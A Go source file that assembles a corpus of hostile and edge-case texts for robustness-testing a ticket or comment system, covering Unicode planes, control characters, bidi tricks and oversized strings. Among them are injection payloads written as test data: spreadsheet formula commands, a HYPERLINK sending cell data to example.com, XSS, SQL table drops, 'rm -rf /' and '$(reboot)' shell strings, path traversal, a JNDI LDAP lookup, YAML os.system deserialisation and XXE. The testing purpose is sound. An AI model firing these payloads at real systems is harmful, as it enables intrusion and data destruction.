// Package corpus holds what has broken other programs: texts, tags, subjects,
// times, people and sizes, as tickets of a source.
package corpus

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Text is one hostile text.
type Text struct{ Name, Body string }

// planes are the 17 planes of Unicode, in pieces of at most size characters;
// only every step-th character of each is taken. Postgres holds no NUL and no
// half of a surrogate pair.
func planes(step, size int) []Text {
	var all []Text
	for plane := range 17 {
		var b strings.Builder
		n, part := 0, 0
		flush := func() {
			if n > 0 {
				all = append(all, Text{fmt.Sprintf("plane %d part %d", plane, part), b.String()})
				part++
			}
			b.Reset()
			n = 0
		}
		for low := 0; low < 0x10000; low += step {
			r := rune(plane<<16 | low)
			if r == 0 || !utf8.ValidRune(r) {
				continue
			}
			b.WriteRune(r)
			if n++; n == size {
				flush()
			}
		}
		flush()
	}
	return all
}

// controls are all control characters, each alone between letters.
func controls() []Text {
	var all []Text
	for r := rune(1); r < 0xA0; r++ {
		if unicode.IsControl(r) {
			all = append(all, Text{fmt.Sprintf("control U+%04X", r), "a" + string(r) + "b"})
		}
	}
	return all
}

// odd are the texts that have a story each.
func odd() []Text {
	long := strings.Repeat
	return []Text{
		{"bidi overrides", "left \u202eereht dna thgir\u202c \u2066isolate\u2069 \u2067\u05d0\u2069 \u200f\u200e\u061c"},
		{"bidi unclosed", "\u202a\u202b\u202d\u202e\u2066\u2067\u2068 never closed"},
		{"zero width", "a\u200bb\u200cc\u200dd\u2060e\ufefff\u180eg\u00adh\u034fi\u17b4j\u115fk\u3164l"},
		{"only zero width", "\u200b\u200c\u200d\u2060\ufeff"},
		{"blank: spaces", "   "}, {"blank: lines", "\n\r\n\t\v\f"}, {"blank: wide", "\u00a0\u2003\u3000\u2028\u2029\u0085\u1680"}, {"blank: nothing", ""},
		{"blank around", "\n\t  text between blanks \u3000\n\n"},
		{"noncharacters", "\ufdd0\ufdef\ufffe\uffff\U0001fffe\U0010ffff"},
		{"replacement", "\ufffd stays \ufffd"},
		{"byte order marks", "\ufefftext\ufeff"},
		{"combining", "Z" + long("\u0300\u0489\u036f", 300) + "algo e\u0301 \u00e9 \u1100\u1161\u11a8 \uac01"},
		{"normal forms", "ﬁ ½ Ⅷ ㎏ Å Å ſ ß ẞ İ ı ǅ ϓ ﷺ"},
		{"emoji", "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🏳️‍🌈 👋🏽 🇩🇪🇪 ☺︎☺️ 0️⃣ 🫱🏻‍🫲🏿"},
		{"private use and tags", "\ue000\uf8ff\U000f0000\U00100000\U000e0041\U000e007f"},
		{"variation selectors", "葛\U000e0100 葛\U000e0101 A\ufe0e\ufe0f"},
		{"surrogates as text", `\ud800 \udfff \ud83d\ude00 &#xD800; %ED%A0%80 \u0000 \x00 %00 &#0;`},
		{"formula equals", "=1+1"}, {"formula command", "=cmd|' /C calc'!A0"}, {"formula link", `=HYPERLINK("https://example.com?x="&A1;"click")`},
		{"formula plus", "+1-2*3"}, {"formula minus", "-2+3+cmd|' /C calc'!A0"}, {"formula at", "@SUM(1+1)*cmd|' /C calc'!A0"}, {"formula tab", "\t=1+1"}, {"formula return", "\r=1+1"},
		{"html script", "<script>alert('x')</script><img src=x onerror=alert(1)>"}, {"html unclosed", "<p><b>never <i>closed &amp; &lt; &nbsp &#x26; &bogus; <"},
		{"html comment", "<!-- a --> b <!--[if IE]>c<![endif]--> <![CDATA[d]]> <?php e ?>"}, {"html closing", "</div></p></body></html> after the end"},
		{"html attribute", `<a href='x" onclick="y' title=">">z</a> <br/ > < p>`}, {"html wrapper", `<div class="zd-comment" dir="auto">inner</div>`},
		{"html no text", "<p></p><br>"}, {"html table", "<table><tr><td>1<td>2<tr><td colspan=99999>3</table>"},
		{"entities", "&amp;amp; &lt;b&gt; &#60; &#x3c; &apos; &quot;"},
		{"mime boundary", "--boundary\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-b+AD4-\r\n--boundary--"},
		{"mime encoded words", "=?utf-8?B?8J+YgA==?= =?iso-8859-1?Q?=A1Hola?= =?x?"}, {"quoted printable", "caf=C3=A9=\r\nsoft =20\r\nFrom here\r\n.\r\nQUIT"},
		{"mail headers", "Subject: x\r\nBcc: all@example.com\r\n\r\nbody\r\n.\r\n"}, {"dot stuffing", ".\n..\n. \n"}, {"base64", "data:text/html;base64,PHNjcmlwdD4="},
		{"line ends", "\r\n\rone\r\n\r\ntwo\n\nthree\u2028four\u2029five\u0085six\vseven\feight"}, {"no end", "the last line ends\n"}, {"only returns", "a\rb\rc\r"},
		{"path", `../../../../etc/passwd C:\..\..\con \\server\share\ file:///etc/hosts /dev/null nul.txt`}, {"path end", `trailing\`},
		{"sql", `'; drop table tickets; -- " or 1=1 /* */ \'; $$ $1 :x ?`}, {"copy", `\N \. \\N \t	\n`}, {"like", `%_\%\_[a-z]`},
		{"shell", "$(reboot) `reboot` ; rm -rf / && echo $HOME | tee > x & !! ~ * {a,b}"}, {"formats", "%s %d %n %x %p {0} {name} %(a)s ${x} #{x} {{x}} {%x%} <%= x %>"},
		{"templates", "{{ticket.title}} {{ticket.comments}} {% for x in y %}{{x}}{% endfor %} ${jndi:ldap://example.com/a}"},
		{"json", `{"ticket":{"id":1}} [1,2,] null true 1e999 -0 "\ud800" \"`}, {"yaml", "--- !!python/object/apply:os.system ['x']\n? : - & * ! | > @ `"}, {"xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a>&b;</a>`},
		{"csv", "a,b;c\td|e\"f\"\"g\"\n,\"\",\r\n\"unclosed"}, {"quotes", "\"'`´‘’“”«»„‚\\"}, {"null words", "null NULL nil None undefined NaN true false 0 -0 []"},
		{"numbers", "0012345 1e10 1_000 0x1F ٣ ３ ² Ⅳ 9007199254740993"}, {"dates", "2024-02-30 0000-00-00 1e10 infinity"},
		{"markdown", "# h\n**b** _i_ [x](javascript:y) ![z](w)\n```\ncode\n```\n> q\n- [ ] t"}, {"long word", long("x", 5000)}, {"long line", long("word ", 10_000)},
		{"reply marker", "##- Please type your reply above this line -##\nOn Mon, X wrote:\n> y\n-- \nsignature"}, {"terminal", "\x1b[2J\x1b]0;title\a\x1b[31mred\b\b\b\x7f"},
		{"languages", "Žluťoučký кůň 日本語 한국어 ไทย हिन्दी العربية עברית ქართული አማርኛ ᚠᛇᚻ 𐎀𐎁 𓀀𓁐 𝔘𝔫𝔦 𠜎𠜱 𪚥"},
	}
}

// big are texts around and far beyond what one comment takes.
func big() []Text {
	long := strings.Repeat
	const most, million = 65_000, 1_000_000
	return []Text{
		{"just fits", long("x", most)}, {"one byte more", long("x", most+1)}, {"just fits, wide", long("é", most/2)}, {"one wide more", long("é", most/2) + "é"},
		{"between characters", "x" + long("漢", most/3+1)}, {"between pairs", "xx" + long("😀", most/4+1)},
		{"a million letters", long("All work and no play makes Jack a dull boy.\n", million/44)},
		{"a million without breaks", long("x", million)}, {"a million wide", long("漢字かな交じり文", million/24)},
		{"a million in pairs", long("😀", million/4)}, {"a million of HTML", long("<p>paragraph &amp; <b>more</b></p>", million/33)}, {"a million of tags", long("<", million)},
		{"a million blanks between", "before" + long(" ", million) + "after"}, {"a million line ends", "x" + long("\n", million)},
		{"blanks of three bytes", "x" + long("\u3000", 100_000) + "y"}, {"a tag across the cut", long("x", most-3) + "<b>bold</b>" + long("y", 1000)},
		{"spaces only early", long("a ", 100) + long("b", most*2)},
	}
}
